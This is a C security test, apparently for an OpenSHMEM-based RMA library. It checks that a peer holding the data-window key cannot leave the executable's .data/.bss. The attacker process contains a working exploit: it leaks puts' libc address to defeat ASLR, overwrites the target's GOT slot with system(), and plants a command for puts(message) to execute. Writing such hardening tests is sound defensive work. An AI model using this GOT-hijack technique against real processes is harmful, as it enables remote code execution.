/*
 * shmem_sec_data.c — issue 25 item 1: a key holder reaches only the executable's own .data/.bss
 * through the data window (tests/scripts/sec_data_window.sh runs it). Two PEs of this same
 * executable, one per PB: PE 0 is the target (root in the suite), PE 1 the attacker (another uid
 * through setpriv, its library's origin checks off: WAITIO_RMA_TEST_NO_ORIGIN_CHECKS=1, as a
 * modified library would be, so that only the target's own checks stand in the way).
 *
 * The attacker finds the GOT slot(s) of `puts` in its own image (words of its writable segments
 * holding the resolved address of puts; the target runs the same binary, so the slot lies at the
 * same offset from the data window's start there) and the copy-relocated `stdout` (the C
 * library's pointer, copied into the executable's .bss), then through the data window:
 *   - reads them on the target (before the fix: the target's libc address of puts, ASLR gone);
 *   - if a read succeeded, does what an attacker does next: writes the target's `system` into
 *     the puts slot and a command into `message`, a global the target passes to puts;
 *     otherwise writes a bogus value into the slot, which must be refused too;
 *   - writes `message` (.data) and `scratch` (.bss) legitimately, and reads them back;
 *   - asks OpenSHMEM whether the slot is a symmetric address (shmem_addr_accessible).
 * It prints one line per attempt with the error code. The target then checks that its slot and
 * stdout are unchanged, that message and scratch hold exactly what the attacker wrote, calls
 * puts(message) and prints "target ok".
 *
 *   shmem_sec_data target|attacker COMMAND
 * COMMAND is what the attacker writes into message (a harmless shell command of the test's).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dlfcn.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <shmem.h>
#include "waitio_rma.h"

#define SCRATCH 4096
#define MAX_SLOTS 8

char message[256] = "target: puts still prints this message";   /* .data */
static unsigned char scratch[SCRATCH];                          /* .bss */

static const char *rc_name(int rc)
{
    switch (rc) {
    case 0: return "OK";
    case WAITIO_ERR_BOUNDS: return "WAITIO_ERR_BOUNDS";
    case WAITIO_ERR_ARG: return "WAITIO_ERR_ARG";
    default: return waitio_strerror(rc);
    }
}

typedef struct slots {
    uintptr_t want;
    uintptr_t at[MAX_SLOTS];
    int n;
} slots;

/* Words of the main program's writable segments equal to the resolved address of puts: its GOT
 * slots. Not instrumented: under ASan the scan crosses the red zones between globals. */
#if defined(__GNUC__)
__attribute__((no_sanitize_address))
#endif
static int scan(struct dl_phdr_info *info, size_t sz, void *arg)
{
    (void)sz;
    slots *s = arg;
    for (int i = 0; i < info->dlpi_phnum; i++) {
        const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
        if (ph->p_type != PT_LOAD || !(ph->p_flags & PF_W))
            continue;
        uintptr_t a = (info->dlpi_addr + ph->p_vaddr + 7) & ~(uintptr_t)7;
        uintptr_t e = info->dlpi_addr + ph->p_vaddr + ph->p_memsz;
        for (; a + 8 <= e && s->n < MAX_SLOTS; a += 8)
            if (*(volatile uintptr_t *)a == s->want)
                s->at[s->n++] = a;
    }
    return 1; /* the main program only */
}

static void check(int rc, const char *what)
{
    if (rc) {
        fprintf(stderr, "shmem_sec_data: %s failed: %s (%s)\n", what, waitio_strerror(rc), waitio_error_message());
        exit(1);
    }
}

static void fill(unsigned char *p, size_t n)
{
    for (size_t i = 0; i < n; i++)
        p[i] = (unsigned char)(i * 131u + 7u);
}

static int attacker(waitio_win_t dw, uintptr_t base, const slots *s, const char *command)
{
    int bad = 0;
    uintptr_t own_system = (uintptr_t)dlsym(RTLD_DEFAULT, "system");
    for (int i = 0; i < s->n; i++) {
        size_t off = s->at[i] - base; /* wraps when the slot lies below the window: the same there */
        uintptr_t v = 0;
        int rc = waitio_get(dw, 0, off, &v, sizeof v);
        printf("attacker: read of the target's puts GOT slot %d (window offset %zd): %s", i, (ssize_t)off, rc_name(rc));
        if (!rc)
            printf(", value %#lx (the target's puts)", (unsigned long)v);
        printf("\n");
        uintptr_t w = 0x4141414141414141u;
        if (!rc) {
            w = v - s->want + own_system; /* the same libc: the target's system */
            size_t moff = (size_t)((uintptr_t)message - base);
            check(waitio_put(dw, 0, moff, command, strlen(command) + 1), "put of the command");
        }
        rc = waitio_put(dw, 0, off, &w, sizeof w);
        int frc = waitio_flush(dw, 0);
        printf("attacker: write of %#lx into that slot: %s (flush: %s)\n", (unsigned long)w, rc_name(rc), rc_name(frc));
    }
    /* the C library's stdout, copied into the executable's .bss */
    size_t off = (uintptr_t)&stdout - base;
    uintptr_t v = 0;
    int rc = waitio_get(dw, 0, off, &v, sizeof v);
    printf("attacker: read of the target's copy-relocated stdout (window offset %zd): %s\n", (ssize_t)off, rc_name(rc));
    /* just past the window's end */
    size_t size = 0;
    check(waitio_win_size(dw, 0, &size), "waitio_win_size");
    rc = waitio_get(dw, 0, size, &v, 1);
    printf("attacker: read of the byte after the target's window: %s\n", rc_name(rc));
    /* the program's own data: written, read back */
    if (s->n == 0 || strcmp(message, command) != 0) { /* not done by the attack above */
        rc = waitio_put(dw, 0, (size_t)((uintptr_t)message - base), command, strlen(command) + 1);
        printf("attacker: write of message (.data): %s\n", rc_name(rc));
        bad |= rc != 0;
    }
    unsigned char pat[SCRATCH], back[SCRATCH];
    fill(pat, sizeof pat);
    rc = waitio_put(dw, 0, (size_t)((uintptr_t)scratch - base), pat, sizeof pat);
    printf("attacker: write of scratch (.bss, %d bytes): %s\n", SCRATCH, rc_name(rc));
    bad |= rc != 0;
    check(waitio_flush(dw, 0), "flush");
    memset(back, 0, sizeof back);
    check(waitio_get(dw, 0, (size_t)((uintptr_t)scratch - base), back, sizeof back), "read back of scratch");
    char msg[sizeof message];
    check(waitio_get(dw, 0, (size_t)((uintptr_t)message - base), msg, sizeof msg), "read back of message");
    int same = memcmp(back, pat, sizeof pat) == 0 && strcmp(msg, command) == 0;
    printf("attacker: read back of message and scratch: %s\n", same ? "identical" : "DIFFERENT");
    bad |= !same;
    /* OpenSHMEM's view of the same addresses */
    for (int i = 0; i < s->n; i++)
        printf("attacker: shmem_addr_accessible(puts GOT slot %d, PE 0) = %d\n", i,
               shmem_addr_accessible((void *)s->at[i], 0));
    printf("attacker: shmem_addr_accessible(message, PE 0) = %d\n", shmem_addr_accessible(message, 0));
    char smsg[sizeof message];
    shmem_getmem(smsg, message, sizeof smsg, 0);
    printf("attacker: shmem_getmem of message from PE 0: %s\n", strcmp(smsg, command) == 0 ? "identical" : "DIFFERENT");
    bad |= strcmp(smsg, command) != 0;
    return bad;
}

/* The target: its slots and stdout must be unchanged, message and scratch exactly as written. */
static int target(const slots *s, const uintptr_t *before, FILE *out_before, const char *command)
{
    int bad = 0;
    for (int i = 0; i < s->n; i++)
        if (*(volatile uintptr_t *)s->at[i] != before[i]) {
            printf("target: puts GOT slot %d CHANGED: %#lx -> %#lx\n", i, (unsigned long)before[i],
                   (unsigned long)*(volatile uintptr_t *)s->at[i]);
            bad = 1;
        }
    if (stdout != out_before) {
        printf("target: stdout CHANGED\n");
        bad = 1;
    }
    unsigned char pat[SCRATCH];
    fill(pat, sizeof pat);
    size_t diff = 0;
    for (size_t i = 0; i < SCRATCH; i++)
        diff += scratch[i] != pat[i];
    printf("target: scratch (.bss): %zu of %d bytes differ from the attacker's pattern\n", diff, SCRATCH);
    printf("target: message (.data) %s the attacker's\n", strcmp(message, command) == 0 ? "is" : "is NOT");
    bad |= diff != 0 || strcmp(message, command) != 0;
    fflush(stdout);
    puts(message); /* before the fix this ran the attacker's command through system() */
    fflush(stdout);
    return bad;
}

int main(int argc, char **argv)
{
    if (argc != 3 || (strcmp(argv[1], "target") && strcmp(argv[1], "attacker"))) {
        fprintf(stderr, "usage: shmem_sec_data target|attacker COMMAND\n");
        return 2;
    }
    alarm(50);
    setvbuf(stdout, NULL, _IOLBF, 0); /* a reference to stdout: copy-relocated into .bss */
    int is_target = strcmp(argv[1], "target") == 0;
    const char *command = argv[2];
    puts(is_target ? "target: started" : "attacker: started"); /* binds the puts slot (lazy binding) */
    slots s = {.want = (uintptr_t)dlsym(RTLD_DEFAULT, "puts")};
    dl_iterate_phdr(scan, &s);
    uintptr_t before[MAX_SLOTS];
    for (int i = 0; i < s.n; i++)
        before[i] = *(volatile uintptr_t *)s.at[i];
    FILE *out_before = stdout;
    shmem_init();
    waitio_group_t world;
    waitio_win_t dw;
    check(waitio_rma_world(&world), "waitio_rma_world");
    check(waitio_win_create_data(world, &dw), "waitio_win_create_data");
    void *b = NULL;
    size_t size = 0;
    check(waitio_win_base(dw, &b, &size), "waitio_win_base");
    uintptr_t base = (uintptr_t)b;
    printf("%s: PE %d of %d; data window: %zu bytes; message at window offset %zu, scratch at %zu; "
           "%d puts GOT slot(s) found, at window offsets",
           argv[1], shmem_my_pe(), shmem_n_pes(), size, (size_t)((uintptr_t)message - base),
           (size_t)((uintptr_t)scratch - base), s.n);
    for (int i = 0; i < s.n; i++)
        printf(" %zd", (ssize_t)(s.at[i] - base));
    printf("\n");
    if (shmem_n_pes() != 2) {
        fprintf(stderr, "shmem_sec_data: needs 2 PEs\n");
        return 2;
    }
    shmem_barrier_all();
    int bad = 0;
    if (!is_target)
        bad = attacker(dw, base, &s, command);
    shmem_barrier_all(); /* the attack is over */
    if (is_target)
        bad = target(&s, before, out_before, command);
    shmem_barrier_all();
    check(waitio_win_free(dw), "waitio_win_free");
    shmem_finalize();
    printf("%s %s\n", argv[1], bad ? "FAILED" : "ok");
    return bad;
}
